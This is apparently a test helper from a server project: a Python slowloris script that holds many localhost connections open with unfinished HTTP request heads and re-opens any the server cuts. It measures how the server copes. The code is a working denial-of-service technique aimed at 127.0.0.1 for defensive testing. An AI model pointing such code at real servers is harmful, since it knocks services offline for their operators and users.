"""A slowloris attacker for the tests, run as its own process (so that its work does not slow the
server under test down): it holds ``--connections`` connections to ``127.0.0.1:PORT`` open, each
having sent most of a request head and never the end of it, and re-opens any the server cuts after
``--reopen-after`` seconds, for ``--seconds``. It prints ``ready`` once every connection has been
opened once, and at the end one JSON line: ``{"opened": N, "cut": N, "failed": N}``.

    python tests/slowloris.py --port 8080 --connections 1000 --source 127.0.0.2 --seconds 5
"""

from __future__ import annotations

import argparse
import asyncio
import json
import resource
import sys

PARTIAL = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\n"


async def attack(port: int, n: int, source: str, seconds: float, reopen_after: float) -> dict[str, int]:
    stats = {"opened": 0, "cut": 0, "failed": 0}
    loop = asyncio.get_running_loop()
    deadline = loop.time() + seconds
    first_round = asyncio.Event()
    started = [0]

    async def one() -> None:
        first = True
        while loop.time() < deadline:
            try:
                reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(source, 0))
                writer.write(PARTIAL)
            except OSError:
                stats["failed"] += 1
            else:
                stats["opened"] += 1
                if first:
                    first = False
                    started[0] += 1
                    if started[0] == n:
                        first_round.set()
                try:
                    async with asyncio.timeout(max(0.0, deadline - loop.time())):
                        await reader.read(65536)  # until the server cuts it (a 408, or a reset)
                    stats["cut"] += 1
                except TimeoutError:
                    pass  # still held at the end
                except OSError:
                    stats["cut"] += 1
                finally:
                    writer.close()
            await asyncio.sleep(reopen_after)

    async def announce() -> None:
        await first_round.wait()
        print("ready", flush=True)

    announcer = asyncio.create_task(announce())
    await asyncio.gather(*(one() for _ in range(n)))
    if not announcer.done():  # some connections never started (the target ran out of descriptors)
        announcer.cancel()
        print("ready", flush=True)
    return stats


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--connections", type=int, default=1000)
    ap.add_argument("--source", default="127.0.0.2", help="local address to connect from")
    ap.add_argument("--seconds", type=float, default=5.0)
    ap.add_argument("--reopen-after", type=float, default=0.5)
    args = ap.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, args.connections + 100)), hard))
    stats = asyncio.run(attack(args.port, args.connections, args.source, args.seconds, args.reopen_after))
    sys.stdout.write(json.dumps(stats) + "\n")


if __name__ == "__main__":
    main()
